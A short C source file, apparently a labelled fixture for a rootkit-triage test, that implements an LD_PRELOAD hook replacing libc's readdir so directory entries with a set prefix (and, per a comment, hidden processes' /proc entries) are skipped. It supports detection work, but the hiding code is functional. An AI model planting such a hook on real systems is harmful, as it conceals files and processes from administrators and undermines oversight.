/* triage-expect: triage_ld_preload_rootkit_source
 * Userland hider, the shape such sources take: libc's readdir looked up with dlsym(RTLD_NEXT)
 * and replaced by one that skips entries whose name starts with a prefix; no working payload. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <dirent.h>
#include <string.h>

static const char *skip_prefix = "sample_hidden_";
static struct dirent *(*real_readdir)(DIR *) = 0;

struct dirent *readdir(DIR *dirp) {
    struct dirent *entry;
    if (!real_readdir)
        real_readdir = dlsym(RTLD_NEXT, "readdir");
    while ((entry = real_readdir(dirp)) != 0) {
        if (strncmp(entry->d_name, skip_prefix, strlen(skip_prefix)) != 0)
            return entry;   /* shown */
    }                       /* names under /proc/<pid> of a hidden process are skipped the same way */
    return 0;
}

int open(const char *path, int flags, ...) {
    int (*real_open)(const char *, int, ...) = dlsym(RTLD_NEXT, "open");
    return real_open(path, flags);
}
